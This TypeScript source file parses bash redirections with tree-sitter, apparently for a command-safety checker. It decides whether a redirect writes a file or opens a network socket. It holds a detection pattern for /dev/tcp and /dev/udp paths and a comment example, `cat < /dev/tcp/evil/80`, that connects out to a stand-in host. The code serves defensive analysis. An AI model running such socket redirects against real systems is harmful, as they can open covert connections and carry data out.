import type { Node } from "web-tree-sitter";
import { readHeredoc } from "./heredoc.js";
import { readWord } from "./shell-word.js";
import type { Assignment, Redirect } from "./simple-command.js";

/** The node types of redirections. */
export const REDIRECT_TYPES: ReadonlySet<string> = new Set([
  "file_redirect",
  "heredoc_redirect",
  "herestring_redirect",
]);

/** `NAME=value` as an {@link Assignment}. */
export function readAssignment(node: Node): Assignment {
  const nameNode = node.childForFieldName("name");
  const valueNode = node.childForFieldName("value");
  return {
    name: nameNode?.text ?? "",
    value: valueNode === null ? null : readWord(valueNode),
  };
}

/** The redirects of one redirect node, and why its here-document cannot be analysed (or `null`). */
export interface RedirectReading {
  readonly redirects: Redirect[];
  readonly unanalysable: string | null;
}

/** A redirect node as {@link Redirect}s (a here-document may carry file redirects inside it). */
export function readRedirects(node: Node): RedirectReading {
  if (node.type === "herestring_redirect") {
    const targetNode = node.namedChildren.find((c) => c !== null) ?? null;
    const target = targetNode === null ? null : readWord(targetNode);
    const value = target?.value ?? null;
    return {
      redirects: [
        {
          operator: "<<<",
          descriptor: descriptorOf(node),
          target,
          kind: "herestring",
          // A here-string ends with the newline the shell adds.
          text: value === null ? null : value + "\n",
        },
      ],
      unanalysable: null,
    };
  }
  if (node.type === "heredoc_redirect") {
    const operator = node.children.find((c) => c !== null && !c.isNamed)?.type ?? "<<";
    const body = readHeredoc(node);
    const inner = node.namedChildren
      .filter((c) => c !== null && c.type === "file_redirect")
      .flatMap((c) => (c === null ? [] : readRedirects(c).redirects));
    const heredoc: Redirect = {
      operator,
      descriptor: descriptorOf(node),
      target: null,
      kind: "heredoc",
      text: body.text,
      expandable: body.expandable,
    };
    return { redirects: [heredoc, ...inner], unanalysable: body.unanalysable };
  }
  const destination = node.childForFieldName("destination");
  const operator = node.children.find((c) => c !== null && !c.isNamed)?.type ?? ">";
  return {
    redirects: [
      {
        operator,
        descriptor: descriptorOf(node),
        target: destination === null ? null : readWord(destination),
        kind: "file",
        text: null,
      },
    ],
    unanalysable: null,
  };
}

function descriptorOf(node: Node): string | null {
  return node.childForFieldName("descriptor")?.text ?? null;
}

/** Duplicating or closing a descriptor (`2>&1`, `>&2`, `>&-`): no file is opened. */
function duplicatesDescriptor(redirect: Redirect): boolean {
  if (redirect.operator === ">&-" || redirect.operator === "<&-") return true;
  if (redirect.operator !== ">&" && redirect.operator !== "<&") return false;
  const target = redirect.target;
  return target !== null && !target.glob && /^(?:\d+|-)$/.test(target.value ?? "");
}

/**
 * Whether a redirect may write a file (departure 4 and "harmless stays harmless"): any `>`,
 * `>>`, `&>`, `>|`, `<>` to a file, except `/dev/null`; duplicating or closing a descriptor
 * (`2>&1`, `>&2`, `1>&-`) opens nothing. A named descriptor (`{fd}>…`) assigns a variable, so
 * it counts as a write too. Other devices (`/dev/sda`) are files like any other.
 */
export function writesFile(redirect: Redirect): boolean {
  if (redirect.kind !== "file" || !redirect.operator.includes(">")) return false;
  if (redirect.descriptor !== null && !/^\d+$/.test(redirect.descriptor)) return true;
  if (duplicatesDescriptor(redirect)) return false;
  const target = redirect.target;
  return target === null || target.glob || target.value !== "/dev/null";
}

/** Paths bash itself turns into network sockets when a redirect opens them. */
const NETWORK_PATH = /^\/dev\/(?:tcp|udp)\//;

/**
 * Whether a redirect may open a network connection: bash treats `/dev/tcp/HOST/PORT` and
 * `/dev/udp/HOST/PORT` in a redirect as sockets (`cat < /dev/tcp/evil/80` connects out), in
 * either direction. A target whose value is unknown counts when its text names such a path.
 */
export function opensConnection(redirect: Redirect): boolean {
  if (redirect.kind !== "file" || redirect.target === null) return false;
  const { value, text } = redirect.target;
  return value !== null ? NETWORK_PATH.test(value) : /\/dev\/(?:tcp|udp)\//.test(text);
}
